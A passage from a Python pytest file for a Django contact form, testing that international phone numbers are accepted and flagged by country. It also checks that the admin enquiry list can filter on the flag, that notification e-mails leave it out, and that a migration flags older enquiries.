    assert names == ["Mariam Al Suwaidi"]


@pytest.mark.parametrize(
    "typed, flagged",
    [
        ("050 123 4567", ""),
        ("+971 4 331 7110", ""),
        ("800 4444", ""),  # a UAE toll-free number
        ("+44 20 7946 0958", "GB (+44)"),
        ("+91 98765 43210", "IN (+91)"),
        ("00966 50 123 4567", "SA (+966)"),
        ("+800 1234 5678", "+800"),  # an international freephone number: no country
    ],
)
def test_international_numbers_are_accepted_and_flagged_for_the_front_desk(
    client, contact_page, typed, flagged
):
    response = client.post(contact_page.url, valid(phone_number=typed))
    assert response.status_code == 302
    assert Enquiry.objects.get().international_phone == flagged


def test_the_front_desk_can_list_and_see_an_international_number_the_email_never_says(
    client, admin_client, contact_page, smtp_server
):
    client.post(contact_page.url, valid(phone_number="+44 20 7946 0958", full_name="Abroad"))
    client.post(contact_page.url, valid(full_name="At home"))
    abroad = Enquiry.objects.get(form_data__full_name="Abroad")

    listed = admin_client.get("/admin/enquiries/", {"international": "true"})
    rows = BeautifulSoup(listed.content, "html.parser").select("table tbody tr")
    assert len(rows) == 1 and "GB (+44)" in rows[0].get_text()
    local = admin_client.get("/admin/enquiries/", {"international": "false"})
    assert len(BeautifulSoup(local.content, "html.parser").select("table tbody tr")) == 1
    inspect = admin_client.get(f"/admin/enquiries/inspect/{abroad.pk}/")
    assert b"GB (+44)" in inspect.content

    call_command("run_worker", once=True, stdout=io.StringIO())
    assert len(smtp_server.messages) == 2
    for message in smtp_server.messages:
        body = message.get_payload(decode=True).decode()
        # The e-mail carries no answers, nor anything drawn from one.
        assert "GB" not in body and "+44" not in body and "international" not in body.lower()


def test_enquiries_from_before_the_flag_are_flagged_by_the_migration(client, contact_page):
    import importlib

    from django.apps import apps

    migration = importlib.import_module("contact.migrations.0007_enquiry_international_phone")
    client.post(contact_page.url, valid(phone_number="+44 20 7946 0958", full_name="Abroad"))
    client.post(contact_page.url, valid(full_name="At home"))
    Enquiry.objects.update(international_phone="")  # as if they came before the flag

    migration.flag_earlier_enquiries(apps, None)

    flags = dict(Enquiry.objects.values_list("form_data__full_name", "international_phone"))
    assert flags == {"Abroad": "GB (+44)", "At home": ""}
